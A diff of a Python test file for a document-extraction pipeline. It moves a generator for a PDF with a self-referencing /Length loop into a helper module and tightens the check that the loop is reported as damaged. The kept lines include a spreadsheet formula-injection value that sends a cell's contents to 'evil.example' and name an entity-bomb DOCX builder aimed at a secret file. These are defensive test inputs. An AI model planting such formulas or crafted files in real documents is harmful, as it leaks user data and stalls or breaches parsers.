@@ -25,6 +25,7 @@ import pyarrow.parquet as pq
 import pytest
 
 from conftest import PROSE_SEED, RAW, TABLE_SEED
+from badfiles import reference_loop_pdf
 from goldcheck import gold_mismatches, read_gold
 from pipeline.datapackage import validate_package
 from pipeline.outputs import OUTPUT_NAMES
@@ -32,10 +33,9 @@ from pipeline.writers import FORMULA_STARTS
 from test_hostile import (FIRST_NAME, SEED_TXT, csv_rows, docx_with_main_part, in_namespace, table_doc,
                           too_long_path)
 
-# Seconds a document may take. The reference loop PDF runs to it (pdfminer resolves 5 0 R →
-# 6 0 R → 5 0 R for ever), so it sets the length of the first run; every other document here
-# takes a second or a few on a loaded machine. Every run passes it: a time-out is cached only
-# for limits up to the one it failed by.
+# Seconds a document may take: every document here takes a second or a few on a loaded
+# machine (the reference loop PDF fails at once as damaged). Every run passes it: a time-out
+# is cached only for limits up to the one it failed by.
 TIMEOUT = 20
 SEED = f"{TABLE_SEED}.docx"
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"bấm")'
@@ -58,25 +58,6 @@ def extract(raw: Path, out: Path, *more: str) -> list[str]:
 
 
 # ---------------------------------------------------------------------------- the inputs
-
-
-def reference_loop_pdf(path: Path) -> Path:
-    """A PDF of 550 bytes whose content stream's /Length is 5 0 R, and 5 0 R is 6 0 R, which
-    is 5 0 R again: written by hand, with a correct cross-reference table."""
-    content = b"BT /F1 12 Tf 72 720 Td (Chi tieu nam 2024) Tj ET"
-    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
-               b"<< /Length 5 0 R >>\nstream\n" + content + b"\nendstream", b"6 0 R", b"5 0 R"]
-    data, offsets = b"%PDF-1.4\n", []
-    for number, body in enumerate(objects, 1):
-        offsets.append(len(data))
-        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
-    xref = len(data)
-    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
-    data += b"".join(b"%010d 00000 n \n" % o for o in offsets)
-    data += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
-    path.write_bytes(data)
-    return path
 
 
 def entity_bomb_docx(path: Path, secret: Path) -> Path:
@@ -157,7 +138,6 @@ def hostile_batch(raw: Path, elsewhere: Path) -> dict[str, tuple[str, list[str]]
     shutil.copyfile(RAW / SEED, raw / "plan-docx.txt")
     failing["plan-docx.txt"] = ("failed", ["the file is a zip archive", "not plain text"])
     reference_loop_pdf(raw / "loop.pdf")
-    # a time-out today (see TIMEOUT); a parser that notices the loop may call it damaged instead
     failing["loop.pdf"] = ("failed", [])
     long_prose(raw / "long-prose.txt")
     (raw / "too-long.txt").write_text(SEED_TXT * 700, encoding="utf-8")
@@ -236,7 +216,7 @@ def test_every_other_entry_has_its_row_and_every_failure_a_sentence(accepted):
         assert all(w in doc["error"] for w in words), doc["error"]
         assert f"failed: {doc['error']}" in proc.stderr.splitlines()
     loop = documents["loop.pdf"]["error"]
-    assert f"took longer than the {TIMEOUT} s limit" in loop or "damaged" in loop, loop
+    assert "damaged" in loop, loop  # the loop is noticed, not run to the time limit
 
 
 def test_what_is_read_is_read_safely(accepted):
